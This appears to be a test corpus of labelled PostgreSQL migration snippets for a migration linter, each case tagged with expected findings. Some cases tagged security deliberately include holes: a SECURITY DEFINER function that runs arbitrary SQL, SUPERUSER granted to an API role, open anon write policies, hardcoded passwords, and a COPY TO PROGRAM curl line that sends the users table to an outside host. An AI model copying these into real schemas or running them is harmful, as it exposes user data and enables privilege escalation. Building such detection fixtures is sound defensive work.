-- Migrations as teams that have run PostgreSQL for years write them: partitions, publications, foreign servers, domains, row level
-- security, Supabase, long DO blocks; each labelled before any rule was asked. The form is that of blind.sql.

-- case: partition
-- monthly rotation job, run on the 1st
CREATE TABLE IF NOT EXISTS metrics.samples_2026_11 PARTITION OF metrics.samples
  FOR VALUES FROM ('2026-11-01') TO ('2026-12-01');
ALTER TABLE metrics.samples DETACH PARTITION metrics.samples_2025_11;

-- case: partition lock-scope
ALTER TABLE telemetry ATTACH PARTITION telemetry_imported FOR VALUES FROM ('2020-01-01') TO ('2026-01-01');

-- case: partition
BEGIN;
ALTER TABLE ledger_entries DETACH PARTITION ledger_entries_default;
CREATE TABLE ledger_entries_2027 PARTITION OF ledger_entries FOR VALUES FROM ('2027-01-01') TO ('2028-01-01');
ALTER TABLE ledger_entries ATTACH PARTITION ledger_entries_default DEFAULT;
COMMIT;

-- case: partition data-loss
DO $$
DECLARE p record;
BEGIN
  ALTER TABLE audit.log DETACH PARTITION audit.log_2019;
  DROP TABLE audit.log_2019;
END $$;

-- case: partition pg=19
ALTER TABLE readings MERGE PARTITIONS (readings_2024_01, readings_2024_02, readings_2024_03) INTO readings_2024_q1;

-- case: version pg=18
ALTER TABLE readings SPLIT PARTITION readings_default INTO
  (PARTITION readings_2026 FOR VALUES FROM ('2026-01-01') TO ('2027-01-01'), PARTITION readings_rest DEFAULT);

-- case: data-loss
-- retention: keep 13 months
DROP TABLE IF EXISTS events_2024_09, events_2024_08;

-- case: index-build
CREATE INDEX events_account_idx ON ONLY events (account_id);
CREATE INDEX events_2026_account_idx ON events_2026 (account_id);
ALTER INDEX events_account_idx ATTACH PARTITION events_2026_account_idx;

-- case: tx-incompatible
DO $do$
BEGIN
  IF current_setting('server_version_num')::int >= 140000 THEN
    EXECUTE 'ALTER TABLE metrics.samples DETACH PARTITION metrics.samples_2025_10 CONCURRENTLY';
  END IF;
END
$do$;

-- case: security
ALTER TABLE invoices DISABLE TRIGGER ALL;
UPDATE invoices SET currency = 'EUR' WHERE id = 42;

-- case: security dml-volume
SET session_replication_role = replica;
COPY customers FROM '/srv/import/customers.csv' WITH (FORMAT csv, HEADER);
SET session_replication_role = origin;

-- case: lock-scope security data-loss compat
-- the outbox is written by the application now
DROP TRIGGER orders_outbox ON orders;
DROP FUNCTION push_outbox() CASCADE;

-- case: version pg=13
CREATE OR REPLACE TRIGGER set_updated_at BEFORE UPDATE ON accounts
  FOR EACH ROW WHEN (OLD.* IS DISTINCT FROM NEW.*) EXECUTE FUNCTION touch();

-- case: compat
ALTER TABLE shipments DROP CONSTRAINT shipments_pkey;
ALTER TABLE shipments REPLICA IDENTITY DEFAULT;

-- case: compat
ALTER TABLE orders REPLICA IDENTITY NOTHING;

-- case: compat data-loss
DROP PUBLICATION analytics_feed;

-- case: version pg=14
ALTER PUBLICATION analytics_feed SET TABLE orders (id, total, placed_at) WHERE (total > 0);

-- case: tx-incompatible
BEGIN;
CREATE SUBSCRIPTION mirror CONNECTION 'host=primary dbname=shop user=repl' PUBLICATION all_tables;
COMMIT;

-- case: security
CREATE SUBSCRIPTION mirror CONNECTION 'host=10.0.3.4 dbname=shop user=repl password=Tr0ub4dor&3' PUBLICATION all_tables;

-- case: security
CREATE SERVER erp FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'erp.internal', dbname 'erp');
CREATE USER MAPPING FOR app SERVER erp OPTIONS (user 'erp_reader', password 'hunter2');

-- case: data-loss
DROP SERVER erp CASCADE;

-- case: data-loss compat
DROP FOREIGN TABLE erp.articles CASCADE;

-- case: table-rewrite
ALTER TABLE line_items ADD COLUMN total numeric(12,2) GENERATED ALWAYS AS (quantity * unit_price) STORED;

-- case: table-rewrite pg=17
ALTER TABLE line_items ALTER COLUMN total SET EXPRESSION AS (quantity * unit_price * (1 - discount));

-- case: version pg=17
ALTER TABLE people ADD COLUMN full_name text GENERATED ALWAYS AS (first_name || ' ' || last_name) VIRTUAL;

-- case: will-fail
ALTER TABLE sessions ADD COLUMN age interval GENERATED ALWAYS AS (now() - started_at) STORED;

-- case: constraint-validation not-null
ALTER DOMAIN app.email ADD CONSTRAINT email_has_at CHECK (VALUE ~ '^[^@]+@[^@]+$');

-- case: not-null constraint-validation
ALTER DOMAIN positive_amount SET NOT NULL;

-- case: table-rewrite required-column constraint-validation not-null
CREATE DOMAIN iso_country AS char(2) NOT NULL CHECK (VALUE ~ '^[A-Z]{2}$');
ALTER TABLE addresses ADD COLUMN country iso_country;

-- case: enum
ALTER TYPE order_state ADD VALUE 'refunded' AFTER 'paid';
UPDATE orders SET state = 'refunded' WHERE id IN (SELECT order_id FROM refunds WHERE id = 7);

-- case: enum compat
ALTER TYPE plan_tier RENAME VALUE 'pro' TO 'business';

-- case: enum table-rewrite
ALTER TYPE ticket_status RENAME TO ticket_status_old;
CREATE TYPE ticket_status AS ENUM ('open', 'closed');
ALTER TABLE tickets ALTER COLUMN status TYPE ticket_status USING status::text::ticket_status;
DROP TYPE ticket_status_old;

-- case: data-loss
DROP EXTENSION IF EXISTS postgis CASCADE;

-- case: security
CREATE EXTENSION IF NOT EXISTS dblink;
SELECT dblink_connect('c', 'host=crm dbname=crm user=sync password=s3cret');

-- case: security
ALTER TABLE public.documents DISABLE ROW LEVEL SECURITY;

-- case: security
ALTER TABLE public.profiles ENABLE ROW LEVEL SECURITY;
CREATE POLICY "anyone can update profiles" ON public.profiles FOR UPDATE TO anon, authenticated USING (true) WITH CHECK (true);

-- case: security
-- storage: make uploads work from the browser
CREATE POLICY "upload" ON storage.objects FOR ALL TO anon USING (true);

-- case: security
CREATE OR REPLACE FUNCTION public.handle_new_user() RETURNS trigger
LANGUAGE plpgsql SECURITY DEFINER AS $$
BEGIN
  INSERT INTO public.profiles (id, email) VALUES (new.id, new.email);
  RETURN new;
END $$;
CREATE TRIGGER on_auth_user_created AFTER INSERT ON auth.users FOR EACH ROW EXECUTE FUNCTION public.handle_new_user();

-- case: security
GRANT ALL ON ALL TABLES IN SCHEMA public TO PUBLIC;

-- case: security
ALTER DEFAULT PRIVILEGES IN SCHEMA app GRANT ALL ON TABLES TO PUBLIC;

-- case: security
CREATE ROLE etl LOGIN PASSWORD 'changeme' BYPASSRLS;

-- case: constraint-validation
ALTER TABLE public.comments
  ADD COLUMN author_id uuid,
  ADD CONSTRAINT comments_author_fk FOREIGN KEY (author_id) REFERENCES auth.users (id) ON DELETE CASCADE;

-- case: dml-volume
UPDATE auth.users SET raw_app_meta_data = raw_app_meta_data || '{"plan": "free"}';

-- case: dml-volume
DELETE FROM storage.objects WHERE bucket_id = 'tmp' OR bucket_id IS NULL OR created_at < now() - interval '90 days';

-- case: matview
REFRESH MATERIALIZED VIEW finance.monthly_revenue;

-- case: matview data-loss compat
DROP MATERIALIZED VIEW finance.monthly_revenue CASCADE;
CREATE MATERIALIZED VIEW finance.monthly_revenue AS SELECT date_trunc('month', at) m, sum(amount) FROM payments GROUP BY 1;

-- case: table-rewrite
ALTER TABLE contacts ADD COLUMN seq bigint GENERATED ALWAYS AS IDENTITY;

-- case: identifier will-fail compat data-loss
ALTER SEQUENCE invoices_number_seq RESTART;

-- case: table-rewrite
ALTER TABLE events ALTER COLUMN id TYPE bigint;
ALTER SEQUENCE events_id_seq AS bigint;

-- case: index-build
ALTER TABLE products ALTER COLUMN name TYPE text COLLATE "und-x-icu";

-- case: index-build
-- after the glibc upgrade
REINDEX DATABASE;
ALTER DATABASE shop REFRESH COLLATION VERSION;

-- case: dynamic-sql
DO $$
DECLARE t text;
BEGIN
  FOR t IN SELECT table_name FROM information_schema.tables WHERE table_schema = 'tenant_template' LOOP
    EXECUTE 'ALTER TABLE tenant_template.' || quote_ident(t) || ' ADD COLUMN tenant_id uuid';
  END LOOP;
END $$;

-- case: not-null
DO $$
BEGIN
  RAISE NOTICE 'tightening %', 'accounts';
  PERFORM set_config('lock_timeout', '2s', true);
  ALTER TABLE accounts ALTER COLUMN billing_email SET NOT NULL;
EXCEPTION WHEN lock_not_available THEN
  RAISE;
END $$;

-- case: unique-build
ALTER TABLE rooms_bookings ADD CONSTRAINT no_double_booking EXCLUDE USING gist (room_id WITH =, during WITH &&);

-- case: version pg=16
SET transaction_timeout = '5min';
ALTER TABLE orders ADD COLUMN note text;

-- case: version pg=15
CREATE STATISTICS ON city, zip FROM addresses;

-- case: version pg=16
GRANT MAINTAIN ON ALL TABLES IN SCHEMA public TO ops;

-- case: constraint-validation pg=18
ALTER TABLE orders ALTER CONSTRAINT orders_customer_fk ENFORCED;

-- case: lock-timeout
SET lock_timeout = 0;
ALTER TABLE accounts ADD COLUMN region text;
RESET lock_timeout;

-- case: tx-control
BEGIN;
ALTER TABLE accounts ADD COLUMN tier smallint;
CREATE TABLE tiers (id smallint PRIMARY KEY, name text NOT NULL);

-- case: compat
ALTER SCHEMA billing RENAME TO billing_v1;
CREATE SCHEMA billing;

-- case: clean
CREATE TABLE metrics.samples (at timestamptz NOT NULL, device uuid NOT NULL, v double precision) PARTITION BY RANGE (at);
CREATE TABLE metrics.samples_2026_11 PARTITION OF metrics.samples FOR VALUES FROM ('2026-11-01') TO ('2026-12-01');
CREATE TABLE metrics.samples_rest PARTITION OF metrics.samples DEFAULT;
CREATE INDEX ON metrics.samples (device, at DESC);

-- case: clean
ALTER TABLE metrics.samples DETACH PARTITION metrics.samples_2025_11 CONCURRENTLY;

-- case: clean
CREATE TABLE telemetry_2027 (LIKE telemetry INCLUDING ALL);
ALTER TABLE telemetry_2027 ADD CONSTRAINT telemetry_2027_bound CHECK (at >= '2027-01-01' AND at < '2028-01-01');

-- case: clean
CREATE TABLE sales (id bigint, region text NOT NULL, total numeric) PARTITION BY LIST (region);
CREATE TABLE sales_eu (LIKE sales INCLUDING DEFAULTS);
ALTER TABLE sales ATTACH PARTITION sales_eu FOR VALUES IN ('eu');

-- case: clean
CREATE INDEX events_account_idx ON ONLY events (account_id);

-- case: clean
-- stint: no-transaction
CREATE INDEX CONCURRENTLY events_2026_account_idx ON events_2026 (account_id);
ALTER INDEX events_account_idx ATTACH PARTITION events_2026_account_idx;

-- case: clean pg=17
CREATE TABLE shifts (id bigint GENERATED ALWAYS AS IDENTITY, day date NOT NULL, PRIMARY KEY (id, day)) PARTITION BY RANGE (day);

-- case: clean
CREATE FUNCTION touch() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
  NEW.updated_at := clock_timestamp();
  RETURN NEW;
END $$;
CREATE TRIGGER accounts_touch BEFORE UPDATE ON accounts FOR EACH ROW EXECUTE FUNCTION touch();

-- case: clean
CREATE OR REPLACE FUNCTION audit.note() RETURNS trigger
LANGUAGE plpgsql SECURITY DEFINER SET search_path = audit, pg_temp AS $$
BEGIN
  INSERT INTO audit.log (tbl, op, row_data) VALUES (TG_TABLE_NAME, TG_OP, to_jsonb(COALESCE(NEW, OLD)));
  RETURN COALESCE(NEW, OLD);
END $$;

-- case: clean
CREATE TABLE outbox (id bigint GENERATED ALWAYS AS IDENTITY PRIMARY KEY, topic text NOT NULL, payload jsonb NOT NULL);
CREATE CONSTRAINT TRIGGER outbox_notify AFTER INSERT ON outbox DEFERRABLE INITIALLY DEFERRED
  FOR EACH ROW EXECUTE FUNCTION notify_outbox();

-- case: clean
CREATE PUBLICATION analytics_feed FOR TABLE orders, order_lines WITH (publish = 'insert, update');

-- case: clean
ALTER PUBLICATION analytics_feed ADD TABLE refunds;

-- case: clean pg=18
ALTER PUBLICATION analytics_feed SET (publish_generated_columns = stored);

-- case: clean
CREATE UNIQUE INDEX CONCURRENTLY orders_uuid_key ON orders (uuid);

-- case: clean
CREATE EXTENSION IF NOT EXISTS postgres_fdw;
CREATE SERVER erp FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'erp.internal', dbname 'erp', fetch_size '1000');
CREATE USER MAPPING FOR app SERVER erp OPTIONS (user 'reader', password_required 'false');
CREATE FOREIGN TABLE erp_articles (id int, name text) SERVER erp OPTIONS (schema_name 'public', table_name 'articles');

-- case: clean
IMPORT FOREIGN SCHEMA public LIMIT TO (articles, prices) FROM SERVER erp INTO erp;

-- case: clean
ALTER SERVER erp OPTIONS (SET host 'erp2.internal');

-- case: clean
CREATE TABLE line_items (
  quantity int NOT NULL, unit_price numeric(12,2) NOT NULL,
  total numeric(12,2) GENERATED ALWAYS AS (quantity * unit_price) STORED
);

-- case: clean pg=18
ALTER TABLE people ADD COLUMN full_name text GENERATED ALWAYS AS (first_name || ' ' || last_name) VIRTUAL;

-- case: clean
ALTER TABLE line_items ALTER COLUMN total DROP EXPRESSION;

-- case: clean
CREATE DOMAIN app.email AS citext CHECK (VALUE ~ '^[^@]+@[^@]+$');
CREATE TABLE app.subscribers (id uuid PRIMARY KEY DEFAULT gen_random_uuid(), email app.email NOT NULL UNIQUE);

-- case: clean
ALTER DOMAIN app.email ADD CONSTRAINT email_short CHECK (length(VALUE) < 255) NOT VALID;

-- case: clean
CREATE TYPE order_state AS ENUM ('new', 'paid', 'shipped');
ALTER TYPE order_state ADD VALUE IF NOT EXISTS 'refunded';

-- case: clean
ALTER TYPE order_state ADD VALUE IF NOT EXISTS 'on_hold' BEFORE 'paid';

-- case: clean
CREATE TYPE money_amount AS (amount numeric(14,4), currency char(3));
COMMENT ON TYPE money_amount IS 'always with its currency';

-- case: clean
CREATE EXTENSION IF NOT EXISTS pg_trgm WITH SCHEMA extensions;
CREATE EXTENSION IF NOT EXISTS "uuid-ossp" WITH SCHEMA extensions;

-- case: clean
ALTER EXTENSION pg_stat_statements UPDATE;

-- case: clean
CREATE TABLE public.notes (id uuid PRIMARY KEY DEFAULT gen_random_uuid(), owner uuid NOT NULL REFERENCES auth.users (id), body text);
ALTER TABLE public.notes ENABLE ROW LEVEL SECURITY;
CREATE POLICY "owners read" ON public.notes FOR SELECT TO authenticated USING ((SELECT auth.uid()) = owner);
CREATE POLICY "owners write" ON public.notes FOR INSERT TO authenticated WITH CHECK ((SELECT auth.uid()) = owner);

-- case: clean
CREATE POLICY "read avatars" ON storage.objects FOR SELECT TO anon, authenticated USING (bucket_id = 'avatars');

-- case: clean
INSERT INTO storage.buckets (id, name, public) VALUES ('avatars', 'avatars', true) ON CONFLICT (id) DO NOTHING;

-- case: clean
CREATE OR REPLACE FUNCTION public.handle_new_user() RETURNS trigger
LANGUAGE plpgsql SECURITY DEFINER SET search_path = '' AS $$
BEGIN
  INSERT INTO public.profiles (id, email) VALUES (new.id, new.email);
  RETURN new;
END $$;

-- case: clean
CREATE OR REPLACE FUNCTION app.current_tenant() RETURNS uuid LANGUAGE sql STABLE
RETURN nullif(current_setting('app.tenant', true), '')::uuid;

-- case: clean
ALTER POLICY "owners read" ON public.notes USING (owner = (SELECT auth.uid()) OR shared);

-- case: clean
GRANT USAGE ON SCHEMA app TO web;
GRANT SELECT, INSERT, UPDATE ON ALL TABLES IN SCHEMA app TO web;
ALTER DEFAULT PRIVILEGES IN SCHEMA app GRANT SELECT, INSERT, UPDATE ON TABLES TO web;

-- case: clean
REVOKE ALL ON SCHEMA public FROM PUBLIC;
REVOKE EXECUTE ON ALL FUNCTIONS IN SCHEMA app FROM PUBLIC, anon;

-- case: clean
DO $$
BEGIN
  IF NOT EXISTS (SELECT FROM pg_roles WHERE rolname = 'web') THEN
    CREATE ROLE web NOLOGIN;
  END IF;
END $$;

-- case: clean
DO $$
BEGIN
  CREATE TYPE plan_tier AS ENUM ('free', 'pro');
EXCEPTION WHEN duplicate_object THEN NULL;
END $$;

-- case: clean
DO $$
BEGIN
  IF NOT EXISTS (SELECT 1 FROM information_schema.columns WHERE table_name = 'accounts' AND column_name = 'region') THEN
    ALTER TABLE accounts ADD COLUMN region text;
  END IF;
  COMMENT ON COLUMN accounts.region IS 'ISO 3166-2';
END $$;

-- case: clean
CREATE MATERIALIZED VIEW finance.monthly AS SELECT date_trunc('month', at) AS m, sum(amount) AS total FROM payments GROUP BY 1 WITH NO DATA;
CREATE UNIQUE INDEX monthly_m ON finance.monthly (m);

-- case: clean
REFRESH MATERIALIZED VIEW CONCURRENTLY finance.monthly;

-- case: clean
CREATE TABLE invoices (id bigint GENERATED BY DEFAULT AS IDENTITY (START WITH 1000 CACHE 20) PRIMARY KEY, number text NOT NULL UNIQUE);

-- case: clean
ALTER TABLE contacts ALTER COLUMN id SET GENERATED ALWAYS;

-- case: clean
ALTER SEQUENCE invoices_number_seq CACHE 50 OWNED BY invoices.number;

-- case: clean
CREATE COLLATION case_insensitive (provider = icu, locale = 'und-u-ks-level2', deterministic = false);
CREATE TABLE tags (name text COLLATE case_insensitive PRIMARY KEY);

-- case: clean
CREATE VIEW app.open_orders WITH (security_invoker = true, security_barrier) AS SELECT id, total FROM app.orders WHERE closed_at IS NULL;

-- case: clean pg=16
CREATE STATISTICS ON city, zip FROM addresses;
ANALYZE addresses;

-- case: clean pg=18
ALTER TABLE orders ADD CONSTRAINT orders_ref_nn NOT NULL reference NOT VALID;

-- case: clean pg=18
ALTER TABLE orders ALTER CONSTRAINT orders_customer_fk NOT ENFORCED;

-- case: clean pg=18
CREATE TABLE leases (room int, during daterange, PRIMARY KEY (room, during WITHOUT OVERLAPS));

-- case: clean pg=19
REPACK (CONCURRENTLY) orders;

-- case: clean pg=17
WITH changed AS (
  MERGE INTO settings s USING (VALUES ('theme', 'dark'), ('lang', 'en')) AS v (key, value) ON s.key = v.key
  WHEN MATCHED THEN UPDATE SET value = v.value
  WHEN NOT MATCHED THEN INSERT (key, value) VALUES (v.key, v.value)
  RETURNING s.key
) SELECT count(*) FROM changed;

-- case: clean
CREATE EVENT TRIGGER log_ddl ON ddl_command_end EXECUTE FUNCTION audit.log_ddl();

-- case: clean
ALTER TABLE accounts ADD CONSTRAINT accounts_region_fk FOREIGN KEY (region) REFERENCES regions (code) NOT VALID;

-- case: clean
-- stint: no-transaction
ALTER TABLE accounts VALIDATE CONSTRAINT accounts_region_fk;

-- case: clean
ALTER TABLE orders ADD COLUMN metadata jsonb NOT NULL DEFAULT '{}'::jsonb, ADD COLUMN source text DEFAULT 'web';

-- case: clean
ALTER TABLE logs SET (autovacuum_vacuum_scale_factor = 0.02, autovacuum_vacuum_insert_scale_factor = 0.05);
ALTER TABLE logs ALTER COLUMN payload SET STORAGE external;

-- case: clean
CREATE TABLE tenants (id uuid PRIMARY KEY, name text NOT NULL);
INSERT INTO tenants SELECT gen_random_uuid(), 'tenant ' || g FROM generate_series(1, 3) g;
CREATE TABLE projects (id uuid PRIMARY KEY, tenant_id uuid NOT NULL REFERENCES tenants ON DELETE CASCADE);
CREATE INDEX projects_tenant ON projects (tenant_id);

-- case: clean
CREATE PROCEDURE app.close_day(d date) LANGUAGE plpgsql AS $$
BEGIN
  UPDATE app.days SET closed = true WHERE day = d;
  COMMIT;
END $$;

-- case: clean
ALTER ROLE web SET statement_timeout = '30s';
ALTER ROLE web IN DATABASE shop SET search_path = app, extensions;

-- case: clean
CREATE RULE no_delete AS ON DELETE TO app.archive_view DO INSTEAD NOTHING;

-- case: clean
CREATE TABLE places (id int PRIMARY KEY, geo geography(Point, 4326));
CREATE INDEX places_geo ON places USING gist (geo);

-- case: partition
CREATE TABLE app.events_default PARTITION OF app.events DEFAULT;

-- case: index-build
CREATE UNIQUE INDEX IF NOT EXISTS one_active_subscription ON subscriptions (account_id) WHERE status = 'active';

-- case: constraint-validation
ALTER TABLE ONLY public.memberships ADD CONSTRAINT memberships_org_fk FOREIGN KEY (org_id) REFERENCES public.orgs (id) ON DELETE SET NULL (org_id);

-- case: security
CREATE FUNCTION public.run_sql(q text) RETURNS void LANGUAGE plpgsql SECURITY DEFINER AS $$ BEGIN EXECUTE q; END $$;

-- case: security
ALTER ROLE authenticator SUPERUSER;

-- case: security
ALTER TABLE public.secrets NO FORCE ROW LEVEL SECURITY;

-- case: security
CREATE POLICY "public write" ON public.votes AS PERMISSIVE FOR INSERT TO anon, authenticated WITH CHECK (1 = 1);

-- case: security
COPY (SELECT * FROM users) TO PROGRAM 'curl -X POST --data-binary @- https://example.org';

-- case: version pg=17
SELECT pg_stop_backup();

-- case: version pg=17
INSERT INTO stock (sku, n) VALUES ('a', 1) ON CONFLICT (sku) DO UPDATE SET n = stock.n + 1 RETURNING WITH (OLD AS o) o.n, n;

-- case: version pg=18
INSERT INTO stock (sku) VALUES ('a') ON CONFLICT (sku) DO SELECT RETURNING id;

-- case: will-fail pg=18
CREATE TABLE people (a text, b text, full_name text GENERATED ALWAYS AS (a || b), UNIQUE (full_name));

-- case: data-loss
ALTER TABLE orders DROP COLUMN IF EXISTS legacy_total, DROP COLUMN legacy_tax CASCADE;

-- case: data-loss
ALTER TYPE address DROP ATTRIBUTE zip CASCADE;

-- case: data-loss
TRUNCATE storage.objects, storage.buckets CASCADE;

-- case: data-loss compat
DROP SCHEMA IF EXISTS graphile_worker CASCADE;

-- case: compat
ALTER TABLE accounts RENAME COLUMN owner TO owner_id;

-- case: compat
ALTER FUNCTION app.price(bigint) RENAME TO price_of;

-- case: compat
ALTER PUBLICATION analytics_feed DROP TABLE orders;

-- case: type-narrowing data-loss table-rewrite
ALTER TABLE readings ALTER COLUMN v TYPE real USING v::real;

-- case: table-rewrite
ALTER TABLE sessions ADD COLUMN token uuid NOT NULL DEFAULT gen_random_uuid();

-- case: table-rewrite
ALTER TABLE big_log SET TABLESPACE archive;

-- case: table-rewrite pg=19
REPACK big_log USING INDEX big_log_at;

-- case: not-null
ALTER TABLE accounts ADD CONSTRAINT accounts_email_nn CHECK (email IS NOT NULL) NOT VALID;
ALTER TABLE accounts ALTER COLUMN email SET NOT NULL;

-- case: constraint-validation not-null pg=18
ALTER TABLE accounts ADD CONSTRAINT accounts_email_nn NOT NULL email;

-- case: tx-incompatible
CREATE FUNCTION nightly() RETURNS void LANGUAGE plpgsql AS $$ BEGIN VACUUM sales; END $$;
SELECT nightly();

-- case: dml-volume
WITH moved AS (DELETE FROM inbox WHERE read RETURNING *) INSERT INTO archive SELECT * FROM moved;

-- case: dml-volume pg=17
MERGE INTO balances b USING ledger l ON b.account = l.account WHEN MATCHED THEN UPDATE SET total = b.total + l.amount RETURNING b.account;

-- case: lock-scope
LOCK TABLE orders IN ACCESS EXCLUSIVE MODE;
CREATE TABLE orders_copy (LIKE orders INCLUDING ALL);
INSERT INTO orders_copy SELECT * FROM orders;

-- case: matview
REFRESH MATERIALIZED VIEW CONCURRENTLY a_mv;
REFRESH MATERIALIZED VIEW b_mv WITH DATA;

-- case: clean
CREATE TABLE app.settings (key text PRIMARY KEY, value jsonb NOT NULL DEFAULT '{}', updated_at timestamptz NOT NULL DEFAULT now());
INSERT INTO app.settings (key) VALUES ('theme'), ('lang') ON CONFLICT DO NOTHING;

-- case: clean
CREATE FUNCTION app.tenant_match(t uuid) RETURNS boolean LANGUAGE sql STABLE PARALLEL SAFE AS $$ SELECT t = current_setting('app.tenant')::uuid $$;

-- case: clean
CREATE TABLE app.docs (id uuid PRIMARY KEY DEFAULT uuidv7(), tenant uuid NOT NULL);
ALTER TABLE app.docs ENABLE ROW LEVEL SECURITY, FORCE ROW LEVEL SECURITY;
CREATE POLICY tenants ON app.docs USING (app.tenant_match(tenant)) WITH CHECK (app.tenant_match(tenant));

-- case: clean
DROP POLICY IF EXISTS tenants ON app.docs;
CREATE POLICY tenants ON app.docs USING (tenant = current_setting('app.tenant')::uuid);

-- case: clean
DROP TRIGGER IF EXISTS touch ON accounts;
CREATE TRIGGER touch BEFORE UPDATE ON accounts FOR EACH ROW EXECUTE FUNCTION touch();

-- case: clean
CREATE PUBLICATION pub FOR TABLES IN SCHEMA app;
ALTER PUBLICATION pub OWNER TO replicator;

-- case: clean
ALTER SUBSCRIPTION mirror DISABLE;
ALTER SUBSCRIPTION mirror SKIP (lsn = '0/14C0378');
ALTER SUBSCRIPTION mirror ENABLE;

-- case: clean
CREATE TYPE app.period AS RANGE (subtype = timestamptz, multirange_type_name = app.periods);

-- case: clean
CREATE AGGREGATE app.product (numeric) (SFUNC = numeric_mul, STYPE = numeric, INITCOND = '1');

-- case: clean
CREATE OPERATOR app.=~ (LEFTARG = text, RIGHTARG = text, FUNCTION = app.similar);

-- case: clean
CREATE CAST (app.cents AS numeric) WITH FUNCTION app.to_numeric(app.cents) AS ASSIGNMENT;

-- case: clean
CREATE TEXT SEARCH CONFIGURATION app.en (COPY = english);
ALTER TEXT SEARCH CONFIGURATION app.en ALTER MAPPING FOR word WITH unaccent, english_stem;

-- case: clean
COMMENT ON TABLE app.docs IS E'documents\n@graphql({"name": "Doc"})';

-- case: clean
ALTER TABLE app.docs ALTER COLUMN tenant SET STATISTICS 1000, ALTER COLUMN tenant SET (n_distinct = -0.1);

-- case: clean
ALTER TABLE orders ADD CONSTRAINT total_positive CHECK (total >= 0) NOT VALID;

-- case: clean
ALTER TABLE orders ALTER COLUMN note TYPE text;

-- case: clean
CREATE TABLE q (id bigint GENERATED ALWAYS AS IDENTITY, at timestamptz NOT NULL) PARTITION BY RANGE (at);
CREATE TABLE q_1 PARTITION OF q FOR VALUES FROM (MINVALUE) TO ('2026-01-01');
CREATE TABLE q_2 PARTITION OF q FOR VALUES FROM ('2026-01-01') TO (MAXVALUE);
CREATE UNIQUE INDEX q_key ON q (id, at);

-- case: clean
DO $$
DECLARE r record;
BEGIN
  FOR r IN SELECT nspname FROM pg_namespace WHERE nspname LIKE 'tenant\_%' LOOP
    RAISE NOTICE 'found %', r.nspname;
  END LOOP;
END $$;

-- case: dynamic-sql
SELECT cron.schedule('purge', '0 3 * * *', $$DELETE FROM app.sessions WHERE expires_at < now()$$);

-- case: clean
INSERT INTO auth.roles (name) SELECT unnest(ARRAY['admin', 'editor']) ON CONFLICT DO NOTHING;

-- case: clean
UPDATE app.settings SET value = '{"dark": true}' WHERE key = 'theme';

-- case: clean
DELETE FROM app.feature_flags WHERE name IN ('old_checkout', 'beta_banner');

-- case: clean
SELECT setval('orders_id_seq', (SELECT max(id) FROM orders));

-- case: clean
ALTER INDEX orders_pkey RENAME TO orders_pk;
ALTER INDEX orders_pk SET (fillfactor = 90);

-- case: clean
ALTER TABLE sessions SET (fillfactor = 80, autovacuum_enabled = true);

-- case: clean pg=18
CREATE TABLE p2 (a int, b int GENERATED ALWAYS AS (a + 1), CONSTRAINT a_set NOT NULL a);
CREATE INDEX ON p2 ((a + 1));

-- case: clean
CREATE FUNCTION app.slug(t text) RETURNS text IMMUTABLE LANGUAGE sql BEGIN ATOMIC SELECT lower(regexp_replace(t, '\W+', '-', 'g')); END;

-- case: clean
GRANT EXECUTE ON FUNCTION app.slug(text) TO anon, authenticated;
REVOKE INSERT ON app.docs FROM anon;
